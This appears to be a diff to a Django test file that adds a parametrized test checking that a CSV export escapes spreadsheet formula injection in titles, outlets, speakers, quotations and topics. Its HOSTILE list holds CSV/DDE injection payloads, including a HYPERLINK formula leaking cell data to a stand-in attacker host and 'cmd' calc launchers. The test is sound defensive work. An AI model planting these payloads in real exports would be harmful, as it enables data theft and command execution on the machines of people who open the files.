@@ -10,7 +10,13 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from statements.models import ArmedGroup
-from tests.factories import StatementFactory, TopicFactory
+from tests.factories import (
+    DocumentFactory,
+    OutletFactory,
+    SpeakerFactory,
+    StatementFactory,
+    TopicFactory,
+)
 from tests.statements import sample
 
 pytestmark = pytest.mark.django_db
@@ -81,3 +87,35 @@ def test_exports_list_every_topic_group_and_outlet_of_a_remark(client):
     assert records[bare.pk]["topics"] == [] and records[bare.pk]["armed_groups"] == []
     assert records[bare.pk]["outlets_reporting"] == 1
     assert _csv(_export(client, "export_csv")[0])[bare.pk]["topics"] == ""
+
+
+HOSTILE = [
+    '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Read more")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '\uff1dHYPERLINK("https://attacker.invalid")',
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_csv_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(client, hostile):
+    # A title, outlet, speaker and quotation as a hostile page could supply them.
+    document = DocumentFactory(title=hostile, outlet=OutletFactory(name=hostile))
+    statement = StatementFactory(
+        document=document, text=hostile, speaker=SpeakerFactory(name=hostile)
+    )
+    statement.topics.add(TopicFactory(name=hostile, slug="hostile"))
+    plain = StatementFactory(text="An invented remark", said_on=statement.said_on)
+
+    rows = _csv(_export(client, "export_csv")[0])
+    row = rows[statement.pk]
+    for column in ("document_title", "outlet", "text", "speaker", "topics"):
+        assert row[column] == "'" + hostile, column
+    assert rows[plain.pk]["text"] == "An invented remark"
+    assert rows[plain.pk]["document_title"] == plain.document.title
+    assert row["outlets_reporting"] == "1"  # numbers stay numbers
+    # JSON is no spreadsheet format: the values stay as they were.
+    assert _json(_export(client, "export_json")[0])[statement.pk]["text"] == hostile
